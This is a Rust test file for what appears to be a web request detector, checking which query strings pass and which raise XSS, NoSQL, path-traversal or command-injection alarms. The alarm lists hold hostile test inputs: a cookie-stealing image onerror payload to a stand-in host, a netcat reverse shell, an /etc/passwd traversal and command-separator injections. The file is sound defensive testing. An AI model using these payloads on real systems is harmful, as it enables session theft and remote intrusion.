//! What people search for, and what pages show of it.

use super::ordinary::{alarms, passes};
use super::*;

#[test]
fn files_sites_and_tags_that_are_searched_for_are_quiet() {
    passes(&[
        "q=../../contributing",
        "s=..%2F..%2Fimg%2Flogo",
        "q=curl+https://www.example.org/",
        "wd=wget+http%3A//example.org",
        "q=why+use+<script>&page=2",
        "q=c%2B%2B+%7C%7C+java",
        "q=ls+-la",
        "message=Cannot+read+properties+of+null+(reading+'__proto__')",
        "body=<p>Hi</p><img+src=\"/a.png\"+onerror=\"this.remove()\">",
        "body=<img+src=\"/a.png\"+onerror=\"this.onerror=null;this.src='/b.png'\">",
        "ref=/../",
        "note=run:+ls+-la+/var/log+|+grep+error+>+out.txt",
        "ask={\"filter\":{\"$gt\":7}}",
    ]);
    alarms(
        Kind::Xss,
        &[
            "body=<img+src=x+onerror=\"this.src='//h.example/'%2Bdocument.cookie\">",
            "body=<img+src=x+onerror=\"this.remove();alert(1)\">",
            "body=<img+src=x+onerror=this.remove()>",
        ],
    );
    alarms(Kind::Nosql, &["ask={\"filter\":{\"$gt\":0}}", "name={\"$gt\":7}"]);
    alarms(Kind::Traversal, &["q=../../../contributing", "q=../../etc/passwd", "doc=../../a"]);
    alarms(
        Kind::Command,
        &[
            "q=curl+http://example.org/a.sh",
            "cmd=ls+-la",
            "note=run:+x+of+it+|+nc+-e+/bin/sh+192.0.2.1+9",
            "note=run:;cat+a.txt",
            "q=ls+-la+/etc",
            "q=a+||+id",
            "q=curl+http://192.0.2.1",
            "cmd=curl+http://example.org/",
            "q=;curl+http://example.org/",
        ],
    );
}
